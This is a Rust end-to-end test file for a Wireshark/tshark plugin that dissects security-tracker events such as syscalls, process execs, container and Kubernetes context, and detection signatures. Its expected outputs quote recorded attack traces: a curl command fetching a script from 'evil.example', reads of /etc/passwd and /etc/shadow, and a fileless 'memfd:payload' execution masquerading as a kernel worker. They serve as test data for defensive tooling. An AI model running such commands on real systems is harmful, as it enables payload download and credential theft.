//! tshark end to end: the plugin installed by `trackershark install`, run as an unprivileged user on
//! the bundled samples. Outputs are asserted exactly.

use trackershark_tests::{iso_time, rows, stderr, Home};

const FIELDS: &[&str] = &["-T", "fields", "-E", "separator=/t"];

/// `tshark -r file [-Y filter] -T fields -e …` arguments.
fn fields_args<'a>(file: &'a str, filter: Option<&'a str>, names: &[&'a str]) -> Vec<&'a str> {
    let mut args: Vec<&str> = vec!["-r", file];
    if let Some(f) = filter {
        args.extend(["-Y", f]);
    }
    args.extend(FIELDS);
    for n in names {
        args.extend(["-e", n]);
    }
    args
}

fn fields(home: &Home, file: &str, filter: Option<&str>, names: &[&str]) -> Vec<Vec<String>> {
    rows(&home.tshark(&fields_args(file, filter, names)))
}

fn row(cols: &[&str]) -> Vec<String> {
    cols.iter().map(|s| s.to_string()).collect()
}

#[test]
fn plain_syscall_event() {
    let home = Home::new();
    home.add_sample("syscall.json");
    let got = fields(
        &home,
        "syscall.json",
        None,
        &[
            "_ws.col.Protocol",
            "tracker.event_name",
            "tracker.event_id",
            "tracker.args.dirfd",
            "tracker.args.pathname",
            "tracker.return_value",
            "_ws.col.Info",
        ],
    );
    assert_eq!(
        got,
        vec![row(&[
            "TRACKER",
            "openat",
            "257",
            "-100",
            "/etc/passwd",
            "3",
            r#"openat: dirfd=-100, pathname="/etc/passwd", flags=524288, mode=0 (---------)"#
        ])]
    );
}

#[test]
fn process_exec_gets_a_command_line_from_argv() {
    let home = Home::new();
    home.add_sample("exec.json");
    let got =
        fields(&home, "exec.json", None, &["tracker.args.command_line", "tracker.args.inode_mode", "tracker.args.dev"]);
    // -T fields prints integers' values; the tree shows modes in octal
    assert_eq!(got, vec![row(&["curl -s http://evil.example/x.sh -o '/tmp/x y.sh'", "33261", "8388609"])]);
    let tree = home.tshark(&["-r", "exec.json", "-V"]);
    assert!(tree.contains("        [Command Line]: curl -s http://evil.example/x.sh -o '/tmp/x y.sh'\n"), "{tree}");
    assert!(tree.contains("        inode_mode: 0100755 (regular file, rwxr-xr-x)\n"), "{tree}");
    assert!(tree.contains("        dev: 8388609 (8:1)\n"), "{tree}");
}

#[test]
fn container_event_with_kubernetes_context() {
    let home = Home::new();
    home.add_sample("k8s.json");
    let got = fields(
        &home,
        "k8s.json",
        Some(r#"tracker.kubernetes.pod_namespace == "shop" && tracker.sockaddr.sin_port == 443"#),
        &[
            "tracker.container.id",
            "tracker.container.name",
            "tracker.container.image",
            "tracker.kubernetes.pod_name",
            "tracker.kubernetes.pod_uid",
            "tracker.process.pid",
            "tracker.process.host_pid",
            "tracker.sockaddr.sa_family",
            "tracker.sockaddr.sin_addr",
        ],
    );
    assert_eq!(
        got,
        vec![row(&[
            "c373adfdc4ac4c3a330c4fda09ad9398bcfb99c381b97cb044c813a397547def",
            "web",
            "docker.io/library/nginx:1.25",
            "web-7d4b9c-x2x9q",
            "5cb83966-e274-48f1-89fb-25bd748d2773",
            "41",
            "191690",
            "AF_INET",
            "93.184.216.34",
        ])]
    );
    let tree = home.tshark(&["-r", "k8s.json", "-V"]);
    for line in [
        "Tracker Event (JSON)\n",
        "    Context\n",
        "        Hostname: web-7d4b9c-x2x9q\n",
        "        Container\n",
        "            Container name: web\n",
        "        Kubernetes\n",
        "            Pod namespace: shop\n",
        "    Args\n",
        "        remote_addr: sa_family=AF_INET sin_port=443 sin_addr=93.184.216.34\n",
        "            Port: 443\n",
    ] {
        assert!(tree.contains(line), "missing {line:?} in\n{tree}");
    }
}

#[test]
fn signature_with_triggered_by_and_metadata() {
    let home = Home::new();
    home.add_sample("signature.json");
    let got = fields(
        &home,
        "signature.json",
        None,
        &[
            "_ws.col.Protocol",
            "_ws.col.Info",
            "tracker.sig.id",
            "tracker.sig.name",
            "tracker.sig.severity",
            "tracker.sig.technique",
            "tracker.sig.external_id",
            "tracker.sig.category",
            "tracker.triggered_by.id",
            "tracker.triggered_by.name",
            "tracker.args.pathname",
        ],
    );
    let expected = row(&[
        "TRACKER/SIG",
        "Fileless Execution",
        "TRC-105",
        "Fileless Execution",
        "3",
        "Reflective Code Loading",
        "T1620",
        "defense-evasion",
        "707",
        "sched_process_exec",
        "memfd:payload",
    ]);
    // v0.23 `triggeredBy` and v0.24 `detectedFrom` give the same fields
    assert_eq!(got, vec![expected.clone(), expected]);
    let tree = home.tshark(&["-r", "signature.json", "-V", "-c", "1"]);
    for line in [
        "Tracker Event (JSON)\n",
        "    Context\n",
        "    Triggered By: sched_process_exec\n",
        "        Event name: sched_process_exec\n",
        "        Args\n",
        "            pathname: memfd:payload\n",
        "            [Command Line]: '[kworker]'\n",
        "    Metadata\n",
        "        Severity: 3 (high)\n",
        "        MITRE technique ID: T1620\n",
    ] {
        assert!(tree.contains(line), "missing {line:?} in\n{tree}");
    }
}

#[test]
fn every_schema_version_dissects() {
    let home = Home::new();
    let cases: &[(&str, &[&[&str]])] = &[
        ("v0.8.json", &[&["openat", "4242", "cat", "2022-07-08T14:49:37.566819000Z", "/etc/passwd"]]),
        (
            "v0.13.json",
            &[
                &["security_socket_connect", "41", "curl", "2023-11-14T22:13:21.000000000Z", ""],
                &["sched_process_exec", "37", "curl", "2023-11-14T22:13:20.123456789Z", "/usr/bin/curl"],
            ],
        ),
        (
            "v0.18.json",
            &[&["security_file_open", "1014858", "python3", "2023-10-02T14:07:54.450496178Z", "/etc/shadow"]],
        ),
        (
            "v0.24.json",
            &[
                &["openat", "1014858", "python3", "2025-01-01T00:00:00.000000042Z", "/etc/shadow"],
                &["security_bpf_prog", "1014858", "python3", "2025-01-01T00:00:01.000000000Z", ""],
            ],
        ),
        (
            "protobuf.json",
            &[
                &["sched_process_exec", "37", "ls", "2025-12-16T10:30:45.123456789Z", "/usr/bin/ls"],
                &["fileless_execution", "37", "3", "2025-12-16T10:30:46.000000000Z", "memfd:payload"],
            ],
        ),
    ];
    for (file, expected) in cases {
        home.add_sample(file);
        let mut got = fields(
            &home,
            file,
            None,
            &[
                "tracker.event_name",
                "tracker.process.pid",
                "tracker.process.name",
                "tracker.timestamp",
                "tracker.args.pathname",
            ],
        );
        for r in &mut got {
            r[3] = iso_time(&r[3]);
        }
        let expected: Vec<Vec<String>> = expected.iter().map(|r| row(r)).collect();
        assert_eq!(got, expected, "{file}");
    }
    // v0.18+ extras and protobuf-only context
    let got = fields(
        &home,
        "v0.18.json",
        None,
        &["tracker.process.executable", "tracker.process.entity_id", "tracker.matched_policies"],
    );
    assert_eq!(got, vec![row(&["/usr/bin/python3.11", "3999221038", "default"])]);
    let got =
        fields(&home, "v0.24.json", Some("tracker.return_value < 0"), &["tracker.return_value", "tracker.args.dirfd"]);
    assert_eq!(got, vec![row(&["-13", "-100"])]);
    let got = fields(
        &home,
        "protobuf.json",
        Some("!tracker.is_signature"),
        &[
            "tracker.process.host_pid",
            "tracker.process.ppid",
            "tracker.process.uid",
            "tracker.container.name",
            "tracker.kubernetes.pod_namespace",
            "tracker.kubernetes.pod_label",
            "tracker.args.command_line",
        ],
    );
    assert_eq!(got, vec![row(&["191684", "1", "1000", "web", "shop", "app=web", "ls -la /tmp"])]);
    let got = fields(
        &home,
        "protobuf.json",
        Some("tracker.is_signature"),
        &[
            "_ws.col.Protocol",
            "tracker.sig.severity",
            "tracker.sig.external_id",
            "tracker.sig.tactic",
            "tracker.triggered_by.name",
        ],
    );
    assert_eq!(got, vec![row(&["TRACKER/SIG", "3", "T1620", "Defense Evasion", "sched_process_exec"])]);
}

#[test]
fn unsupported_argument_type_is_shown_not_dropped() {
    let home = Home::new();
    home.add_sample("unsupported.json");
    let tree = home.tshark(&["-r", "unsupported.json", "-V"]);
    assert!(tree.contains("        quantum_state: unsupported type qubit_t: {\"amplitude\":[0.7,0.7]}\n"), "{tree}");
    assert!(tree.contains("            Argument type: qubit_t\n"), "{tree}");
    assert!(tree.contains("argument quantum_state has unsupported type qubit_t"), "{tree}");
    // the expert item is filterable, and the event's other fields are intact
    let got =
        fields(&home, "unsupported.json", Some("tracker.unsupported_type"), &["tracker.args.pathname", "tracker.arg"]);
    assert_eq!(got, vec![row(&["/tmp/x", "{\"amplitude\":[0.7,0.7]}"])]);
}

#[test]
fn kubectl_logs_prefix_file() {
    let home = Home::new();
    home.add_sample("kubectl-prefix.log");
    let out = home.run(
        "tshark",
        &fields_args("kubectl-prefix.log", None, &["frame.number", "tracker.log_source", "tracker.event_name"]),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        rows(&String::from_utf8_lossy(&out.stdout)),
        vec![
            row(&["1", "[pod/tracker-4kx2p/tracker]", "sched_process_exec"]),
            row(&["2", "[pod/tracker-9zq7w/tracker]", "security_socket_connect"]),
            row(&["3", "[pod/tracker-4kx2p/tracker]", "fileless_execution"]),
        ]
    );
    assert!(stderr(&out).contains("Trackershark: skipped 2 Tracker log line(s)"), "{}", stderr(&out));
    // the JSON's bytes are highlighted past the prefix
    let got = fields(&home, "kubectl-prefix.log", Some("frame.number == 2"), &["tracker.container.name"]);
    assert_eq!(got, vec![row(&["web"])]);
}

/// A line without a time (a malformed one, an event without `timestamp`) keeps the time of the
/// line before it, in order when read and when read again at random (`-2`'s second pass).
#[test]
fn lines_without_a_time_keep_the_previous_one() {
    let home = Home::new();
    let lines = [
        r#"{"timestamp":1700000000000000001,"eventName":"openat","args":[]}"#,
        r#"{"eventName":"close","args":[]}"#,
        r#"{"timestamp":1700000005000000000,"eventName":"openat","args":[]}"#,
        r#"{"timestamp":17000000 broken"#,
    ];
    home.write("untimed.json", (lines.join("\n") + "\n").as_bytes());
    let expected = vec![
        row(&["1", "1700000000.000000001", "openat"]),
        row(&["2", "1700000000.000000001", "close"]),
        row(&["3", "1700000005.000000000", "openat"]),
        row(&["4", "1700000005.000000000", ""]),
    ];
    for two_pass in [false, true] {
        let mut args = fields_args("untimed.json", None, &["frame.number", "frame.time_epoch", "tracker.event_name"]);
        if two_pass {
            args.insert(0, "-2");
        }
        let out = home.run("tshark", &args);
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(rows(&String::from_utf8_lossy(&out.stdout)), expected, "two passes: {two_pass}");
    }
}

#[test]
fn filters_on_context_and_args_select_the_right_events() {
    let home = Home::new();
    home.add_sample("events.json");
    let frames = |filter: &str| -> Vec<String> {
        fields(&home, "events.json", Some(filter), &["frame.number"]).into_iter().map(|r| r[0].clone()).collect()
    };
    assert_eq!(frames(r#"tracker.args.pathname contains "passwd""#), ["1"]);
    assert_eq!(frames(r#"tracker.args.pathname == "/etc/shadow""#), ["4", "5"]);
    assert_eq!(frames(r#"tracker.container.name == "web""#), ["2", "3", "7", "9"]);
    assert_eq!(frames("tracker.process.pid == 37"), ["2", "9", "10"]);
    assert_eq!(frames(r#"tracker.event_name == "openat""#), ["1", "5", "11"]);
    assert_eq!(frames("tracker.is_signature"), ["7", "8", "10"]);
    assert_eq!(frames("tracker.sig.severity >= 3"), ["7", "8", "10"]);
    assert_eq!(frames(r#"tracker.args.argv contains "evil""#), ["2"]);
    assert_eq!(frames("tracker.args.dirfd == -100"), ["1", "5"]);
    assert_eq!(frames(r#"tracker.args.helpers contains "12""#), ["6"]);
    assert_eq!(frames("tracker.args.load == 1"), ["6"]);
    assert_eq!(
        frames("tracker.timestamp >= \"2025-01-01 00:00:00Z\" && tracker.timestamp < \"2025-01-02 00:00:00Z\""),
        ["5", "6", "8", "11"]
    );
    assert!(frames("tracker.malformed || tracker.internal_error").is_empty());
}

#[test]
fn every_item_highlights_its_bytes() {
    let home = Home::new();
    home.add_sample("syscall.json");
    // -T pdml gives each field's position: `pathname` must cover its arg object in the line
    let pdml = home.tshark(&["-r", "syscall.json", "-T", "pdml"]);
    let line = std::fs::read_to_string(trackershark_tests::samples_dir().join("syscall.json")).unwrap();
    let arg = r#"{"name":"pathname","type":"const char*","value":"/etc/passwd"}"#;
    let pos = line.find(arg).unwrap();
    let want = format!(
        r#"name="tracker.args.pathname" showname="pathname: /etc/passwd" size="{}" pos="{}""#,
        arg.len(),
        pos + 16
    );
    assert!(pdml.contains(&want), "{want} not in\n{pdml}");
}

#[test]
fn all_fields_are_registered_up_front() {
    let home = Home::new();
    let fields = home.tshark(&["-G", "fields"]);
    for f in [
        "tracker.args.pathname",
        "tracker.args.argv",
        "tracker.args.command_line",
        "tracker.proto_http_request.method",
        "tracker.sig.severity",
        "tracker.container.name",
    ] {
        assert!(fields.lines().any(|l| l.split('\t').nth(2) == Some(f)), "{f} not registered");
    }
    let count = fields.lines().filter(|l| l.split('\t').nth(2).is_some_and(|a| a.starts_with("tracker.args."))).count();
    assert!(count > 500, "only {count} argument fields");
}

#[test]
fn a_panic_inside_the_engine_becomes_an_expert_item_and_tshark_goes_on() {
    let home = Home::new();
    home.add_sample("events.json");
    // the engine panics on purpose for lines containing this text (a test hook)
    let out = home.run_with_env(
        "tshark",
        &fields_args("events.json", None, &["frame.number", "tracker.event_name", "_ws.expert.message"]),
        &[("TRACKERSHARK_TEST_PANIC", "security_bpf_prog")],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let got = rows(&String::from_utf8_lossy(&out.stdout));
    assert_eq!(got.len(), 11, "every frame still there");
    assert_eq!(got[5][1], "", "the panicking event has no fields");
    assert!(got[5][2].contains("forced panic for testing"), "{:?}", got[5]);
    assert_eq!(got[6][1], "fileless_execution", "later events are dissected");

    // the packet list alone (only the columns are read, on the file's reading thread): the same
    let out = home.run_with_env("tshark", &["-r", "events.json"], &[("TRACKERSHARK_TEST_PANIC", "security_bpf_prog")]);
    assert!(out.status.success(), "{}", stderr(&out));
    let list = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = list.lines().collect();
    assert_eq!(lines.len(), 11, "every frame still there:\n{list}");
    assert!(lines[5].contains("internal error") && lines[5].contains("forced panic for testing"), "{list}");
    assert!(lines[6].contains("Fileless Execution"), "{list}");
}
